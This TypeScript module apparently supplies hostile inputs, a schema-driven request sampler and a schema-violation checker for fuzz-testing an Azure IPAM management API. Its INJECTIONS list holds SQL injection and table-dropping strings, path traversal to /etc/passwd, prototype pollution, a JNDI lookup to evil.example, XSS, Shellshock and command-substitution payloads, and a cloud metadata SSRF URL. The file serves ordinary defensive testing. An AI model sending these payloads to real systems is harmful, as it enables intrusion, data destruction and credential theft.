// Hostile inputs for the fuzz test (test/fuzz.test.ts): strings, numbers, ids and CIDRs that have broken
// parsers, validators and databases before, a sampler that turns a route's JSON schema into a plausible
// body, and `violates`, which says when a value is certainly refused by that schema — the fuzz relies on
// it to send mutating routes only requests that cannot succeed.

export type Random = () => number

/** A JSON value written exactly as given (numbers JSON.stringify cannot produce, duplicate keys). */
export class RawJson {
  readonly text: string
  constructor(text: string) {
    this.text = text
  }
}

/** The subset of JSON Schema the route schemas use, as the OpenAPI document carries it. */
export interface JsonSchema {
  $ref?: string
  type?: string | string[]
  properties?: Record<string, JsonSchema>
  patternProperties?: Record<string, JsonSchema>
  additionalProperties?: boolean | JsonSchema
  required?: string[]
  items?: JsonSchema
  anyOf?: JsonSchema[]
  oneOf?: JsonSchema[]
  allOf?: JsonSchema[]
  enum?: unknown[]
  pattern?: string
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
  minItems?: number
  maxItems?: number
  maxProperties?: number
  examples?: unknown[]
  default?: unknown
}

export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE audit_event; --",
  '1; SELECT pg_sleep(30)--',
  "'); TRUNCATE access_grant CASCADE; --",
  "1' UNION SELECT md5('x'), null, null--",
  '" OR ""="',
  "admin'--",
  '\\x27; DELETE FROM virtual_network; --',
  '{"$gt": ""}',
  '{"$ne": null}',
  '$where',
  "this.constructor.constructor('return process')().exit()",
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/v1/../../admin',
  '....//....//etc/passwd',
  '__proto__',
  'constructor',
  'prototype',
  '__proto__[isAdmin]=true',
  'constructor[prototype][isAdmin]=true',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<%= 7*7 %>',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '%s%s%s%n',
  '\r\nSet-Cookie: pwned=1',
  '\n{"level":60,"msg":"forged log line"}',
  '\u001b[31mred\u001b[0m',
  '() { :; }; echo pwned',
  '$(reboot)',
  '`id`',
  '| cat /etc/passwd',
  'file:///etc/passwd',
  'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
]

export const ODD_TEXT = [
  '',
  ' ',
  '\t\n\r',
  '\u0000',
  'a\u0000b',
  '\u0000'.repeat(8),
  '\u0007\u0008\u000b\u000c\u007f',
  '\ufeff',
  '\u200b\u200c\u200d',
  '\u202eevil',
  '\ud800',
  '\udfff',
  '\ud83d\ude00',
  'Ａｄｍｉｎ',
  'İıß',
  'e\u0301',
  '\u{10ffff}',
  '\u00ff\u00fe',
  '\uffff',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '0x10',
  '0b11',
  '1e309',
  '1e-400',
  '9'.repeat(40),
  '-1',
  '0',
  '00',
  '1.5',
  ' 1',
  '+1',
  '1_000',
  '١٢٣',
  '１２３',
]

export const CONTROL_TEXT = [
  'a\u0000b',
  '\u0000',
  'Contoso\u0000 (tenant B)',
  '\u001b[2J\u001b[31mred',
  'bell\u0007',
  'back\u0008space',
  'vertical\u000btab',
  'del\u007f',
  '\u0001\u0002\u0003',
  'line\nbreak\ttab',
]

export const EDGE_CIDRS = [
  '10.0.0.0/33',
  '10.0.0.0/-1',
  '256.0.0.0/8',
  '10.0.0/8',
  '10.0.0.0',
  '10.0.0.0/8/8',
  '0.0.0.0/0',
  '::/0',
  '::/129',
  'fe80::1%eth0/64',
  '10.0.0.0/08',
  ' 10.0.0.0/8',
  '10.0.0.0/8\u0000',
  '2001:db8:::/64',
  '::ffff:10.0.0.0/104',
  '10.0.0.0/0x10',
  '010.0.0.0/8',
  '4294967295/32',
  '10.0.0.0\\8',
  '10.0.0.0/8,10.1.0.0/16',
  '10.0.0.0/8; DROP TABLE allocation',
]

export const EDGE_NUMBERS = [
  '1e400',
  '-1e400',
  '9007199254740993',
  '-9223372036854775809',
  '123456789012345678901234567890123456789012',
  '-0',
  '0',
  '0.5',
  '1E2',
  '1e-400',
  '4294967296',
  '-1',
  '1.0000000000000002',
]

const SUBSCRIPTION = 'a1a1a1a1-0000-4000-8000-0000000000a1'
const MANAGER = `/subscriptions/${SUBSCRIPTION}/resourceGroups/rg-network-management/providers/Microsoft.Network/networkManagers/nm-contoso`

export const EDGE_ARM_IDS = [
  `${MANAGER}/ipamPools/pool-does-not-exist`,
  `${MANAGER}/ipamPools/pool-retail/`,
  `${MANAGER}/ipamPools/pool-retail/../../../../..`,
  `${MANAGER.toLowerCase()}/ipampools/pool-retail`,
  `${MANAGER}/ipamPools/pool-retail?api-version=2099-01-01`,
  `${MANAGER}/ipamPools/pool%2Fretail`,
  `${MANAGER}/ipamPools/${'p'.repeat(81)}`,
  `${MANAGER}/ipamPools/pool-retail\u0000`,
  `https://management.azure.com${MANAGER}/ipamPools/pool-retail`,
  `/subscriptions/../resourceGroups/x/providers/Microsoft.Network/networkManagers/y/ipamPools/z`,
  '/subscriptions//resourceGroups//providers//networkManagers//ipamPools/',
  `/subscriptions/${SUBSCRIPTION}`,
  `/subscriptions/${SUBSCRIPTION}/resourceGroups/rg-ü/providers/Microsoft.Network/networkManagers/nm/ipamPools/p`,
  MANAGER,
]

export const HOSTILE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  '$gt',
  '$where',
  '',
  ' ',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  '\u0000',
  '../x',
  'a.b',
  'a[b]',
  'SUBSCRIPTIONID',
  'subscriptionId ',
  'k'.repeat(2000),
]

/** A GUID with no particular meaning, drawn from `random` (so runs replay from their seed). */
export function guid(random: Random): string {
  const hex = (n: number) =>
    Array.from({ length: n }, () => '0123456789abcdef'[Math.floor(random() * 16)] ?? '0').join('')
  return `${hex(8)}-${hex(4)}-4${hex(3)}-8${hex(3)}-${hex(12)}`
}

export function edgeGuids(random: Random): string[] {
  const id = guid(random)
  return [
    '00000000-0000-0000-0000-000000000000',
    'ffffffff-ffff-ffff-ffff-ffffffffffff',
    id.toUpperCase(),
    `{${id}}`,
    id.replaceAll('-', ''),
    `${id}x`,
    `${id}\n`,
    `${id}\u0000`,
    ` ${id}`,
    id.slice(0, 35),
    `urn:uuid:${id}`,
    id.replace(/[0-9]/, 'g'),
    id.replace(/[0-9]/, '٣'),
    `${id},${guid(random)}`,
  ]
}

/** Random choices with the hostile vocabulary above. */
export class Hostile {
  readonly random: Random
  constructor(random: Random) {
    this.random = random
  }

  int(max: number): number {
    return Math.floor(this.random() * max)
  }

  chance(probability: number): boolean {
    return this.random() < probability
  }

  pick<T>(items: readonly T[]): T {
    if (!items.length) throw new Error('pick from an empty list')
    return items[this.int(items.length)]!
  }

  guid(): string {
    return guid(this.random)
  }

  /** Long strings, sized to fit a URL (short) or to blow through the body limit (long). */
  huge(long: boolean): string {
    const size = long ? 1000 + this.int(80_000) : 200 + this.int(4000)
    const unit = this.pick(['A', '\u00e9', '\ud83d\ude00', '%', '\\', '"', '\u0000', '../', "'"])
    return unit.repeat(Math.ceil(size / unit.length))
  }

  string(long = false): string {
    switch (this.int(8)) {
      case 0:
      case 1:
        return this.pick(INJECTIONS)
      case 2:
      case 3:
        return this.pick(ODD_TEXT)
      case 4:
        return this.pick(EDGE_CIDRS)
      case 5:
        return this.pick(edgeGuids(this.random))
      case 6:
        return this.pick(EDGE_ARM_IDS)
      default:
        return this.huge(long)
    }
  }

  /** Any JSON value, from type confusion to depth and size. */
  value(long = false): unknown {
    switch (this.int(12)) {
      case 0:
        return new RawJson(this.pick(EDGE_NUMBERS))
      case 1:
        return this.pick([null, true, false, 0, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2])
      case 2:
        return this.pick([[], {}, [null], [[]], [{}], { $gt: '' }, { $ne: null }])
      case 3:
        return Array.from({ length: this.pick([2, 50, 5000]) }, () => this.pick(INJECTIONS))
      case 4:
        return this.nested(this.pick([10, 200, 3000]))
      case 5:
        return json(`{"__proto__":{"isAdmin":true,"roles":["Admin"]}}`)
      case 6:
        return json(`{"constructor":{"prototype":{"isAdmin":true}}}`)
      default:
        return this.string(long)
    }
  }

  nested(depth: number): RawJson {
    return this.chance(0.5)
      ? new RawJson(`${'['.repeat(depth)}1${']'.repeat(depth)}`)
      : new RawJson(`${'{"a":'.repeat(depth)}"x"${'}'.repeat(depth)}`)
  }

  /** A value meant for a field of this schema that comes close to valid (edge ids, sizes) or far from it. */
  valueFor(schema: JsonSchema | undefined, long = false): unknown {
    const pattern = schema?.pattern ?? ''
    // Free text (no pattern, or one that only bars control characters) is where NUL and escapes get through.
    if (schema?.type === 'string' && (!pattern || pattern.includes('\\x00-')) && this.chance(0.5))
      return this.pick(CONTROL_TEXT)
    if (this.chance(0.5)) {
      if (pattern.includes('{8}-') && !pattern.includes('subscriptions')) return this.pick(edgeGuids(this.random))
      if (pattern.includes('ipamPools') || pattern.includes('networkManagers')) return this.pick(EDGE_ARM_IDS)
      if (pattern.startsWith('^[1-9]')) return this.pick([...EDGE_NUMBERS, ...EDGE_CIDRS])
      if (schema?.type === 'integer') return new RawJson(this.pick(EDGE_NUMBERS))
    }
    return this.value(long)
  }
}

/** An own property, even for `__proto__` (plain assignment would set the prototype instead). */
export function put(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true })
}

function json(text: string): unknown {
  return JSON.parse(text) as unknown
}

/** JSON text of a value that may hold RawJson parts and own `__proto__` keys. */
export function serialize(value: unknown): string {
  if (value instanceof RawJson) return value.text
  if (Array.isArray(value)) return `[${value.map(serialize).join(',')}]`
  if (value && typeof value === 'object') {
    return `{${Object.entries(value)
      .map(([key, item]) => `${JSON.stringify(key)}:${serialize(item)}`)
      .join(',')}}`
  }
  return JSON.stringify(value) ?? 'null'
}

const isObject = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value)

const regex = new Map<string, RegExp>()
/** As Ajv compiles patterns: unicode mode. */
function matches(pattern: string, text: string): boolean {
  let compiled = regex.get(pattern)
  if (!compiled) regex.set(pattern, (compiled = new RegExp(pattern, 'u')))
  return compiled.test(text)
}

/** Schema walking over an OpenAPI document's components. */
export class Schemas {
  readonly components: Record<string, JsonSchema>
  constructor(components: Record<string, JsonSchema>) {
    this.components = components
  }

  resolve(schema: JsonSchema): JsonSchema {
    const name = schema.$ref?.replace('#/components/schemas/', '')
    if (name === undefined) return schema
    const target = this.components[name]
    if (!target) throw new Error(`unresolved ${schema.$ref}`)
    return this.resolve(target)
  }

  /** A value the schema probably accepts, from its examples, enums and a few plausible strings. */
  sample(schema: JsonSchema, h: Hostile, depth = 0): unknown {
    const s = this.resolve(schema)
    const branches = s.anyOf ?? s.oneOf
    if (branches) return this.sample(h.pick(branches), h, depth)
    if (s.examples?.length) return h.pick(s.examples)
    if (s.enum?.length) return h.pick(s.enum)
    if (s.default !== undefined && h.chance(0.5)) return s.default
    const type = [s.type].flat()[0]
    switch (type) {
      case 'object': {
        const result: Record<string, unknown> = {}
        for (const [key, property] of Object.entries(s.properties ?? {})) {
          if (depth < 6 && (s.required?.includes(key) || h.chance(0.5)))
            put(result, key, this.sample(property, h, depth + 1))
        }
        return result
      }
      case 'array': {
        const count = Math.max(s.minItems ?? 0, depth < 6 && s.items && h.chance(0.7) ? 1 : 0)
        return Array.from({ length: count }, () => this.sample(s.items ?? {}, h, depth + 1))
      }
      case 'integer':
      case 'number':
        return s.minimum ?? 1
      case 'boolean':
        return h.chance(0.5)
      case 'string':
        return this.#plausibleString(s, h)
      default:
        return null
    }
  }

  #plausibleString(s: JsonSchema, h: Hostile): string {
    const candidates = [
      h.guid(),
      `${MANAGER}/ipamPools/pool-retail`,
      MANAGER,
      'rg-fuzz',
      'vnet-fuzz',
      'westeurope',
      'https://kv-fuzz.vault.azure.net',
      '64',
      'fuzz team',
      'fuzz',
    ]
    return (
      candidates.find(
        (text) =>
          (!s.pattern || matches(s.pattern, text)) &&
          [...text].length >= (s.minLength ?? 0) &&
          [...text].length <= (s.maxLength ?? Infinity),
      ) ?? 'x'
    )
  }

  /** The schema of the value at `path`, unless a union lies on the way. */
  at(schema: JsonSchema, path: readonly (string | number)[]): JsonSchema | undefined {
    let current: JsonSchema | undefined = this.resolve(schema)
    for (const step of path) {
      if (!current || current.anyOf || current.oneOf) return undefined
      const next: JsonSchema | undefined =
        typeof step === 'number'
          ? current.items
          : current.properties && Object.hasOwn(current.properties, step)
            ? current.properties[step]
            : undefined
      current = next && this.resolve(next)
    }
    return current && !current.anyOf && !current.oneOf ? current : undefined
  }

  /**
   * True only when Fastify's Ajv (coerceTypes: 'array', useDefaults) certainly refuses the value;
   * false when it may accept it. Unions count as refused only when every branch refuses.
   */
  violates(schema: JsonSchema, value: unknown): boolean {
    const s = this.resolve(schema)
    const branches = s.anyOf ?? s.oneOf
    if (branches) return branches.every((branch) => this.violates(branch, value))
    if (s.allOf?.some((branch) => this.violates(branch, value))) return true
    if (s.enum && typeof value === 'string' && s.enum.every((e) => typeof e === 'string')) {
      if (!s.enum.includes(value)) return true
    }
    const types = s.type === undefined ? [] : [s.type].flat()
    if (types.length !== 1) return false
    const type = types[0]
    if (type === 'object') return !isObject(value) || this.#objectViolates(s, value)
    if (type === 'array') return isObject(value) || this.#arrayViolates(s, Array.isArray(value) ? value : [value])
    // Scalars: Ajv unwraps a one-item array, never an object or a longer array.
    if (isObject(value)) return true
    if (Array.isArray(value)) return value.length !== 1 || this.violates(s, value[0])
    if (type === 'string') {
      // Ajv coerces numbers and booleans to their text, null to ''.
      const text =
        typeof value === 'string' ? value : typeof value === 'number' || typeof value === 'boolean' ? String(value) : ''
      const length = [...text].length
      return (
        (s.pattern !== undefined && !matches(s.pattern, text)) ||
        length < (s.minLength ?? 0) ||
        length > (s.maxLength ?? Infinity)
      )
    }
    if (type === 'integer' || type === 'number') {
      let number: number
      if (typeof value === 'number') {
        if (!Number.isFinite(value)) return true
        number = value
      } else if (typeof value === 'string') {
        if (value === '' || Number.isNaN(Number(value))) return true
        number = Number(value)
        // Ajv coerces "1e400" to Infinity and then skips minimum/maximum, which it applies to finite numbers only.
        if (!Number.isFinite(number)) return false
      } else return false
      return (
        (type === 'integer' && !Number.isInteger(number)) ||
        number < (s.minimum ?? -Infinity) ||
        number > (s.maximum ?? Infinity)
      )
    }
    if (type === 'boolean') return typeof value === 'string' && value !== 'true' && value !== 'false'
    return false
  }

  #objectViolates(s: JsonSchema, value: Record<string, unknown>): boolean {
    const keys = Object.keys(value)
    if (keys.length > (s.maxProperties ?? Infinity)) return true
    const properties = s.properties ?? {}
    for (const key of s.required ?? []) {
      if (!Object.hasOwn(value, key) && properties[key]?.default === undefined) return true
    }
    for (const key of keys) {
      const item = value[key]
      if (Object.hasOwn(properties, key)) {
        if (this.violates(properties[key]!, item)) return true
        continue
      }
      const patterned = Object.entries(s.patternProperties ?? {}).filter(([pattern]) => matches(pattern, key))
      if (patterned.length) {
        if (patterned.some(([, schema]) => this.violates(schema, item))) return true
        continue
      }
      if (s.additionalProperties === false) return true
      if (typeof s.additionalProperties === 'object' && this.violates(s.additionalProperties, item)) return true
    }
    return false
  }

  #arrayViolates(s: JsonSchema, items: unknown[]): boolean {
    if (items.length < (s.minItems ?? 0) || items.length > (s.maxItems ?? Infinity)) return true
    return s.items !== undefined && items.some((item) => this.violates(s.items!, item))
  }
}
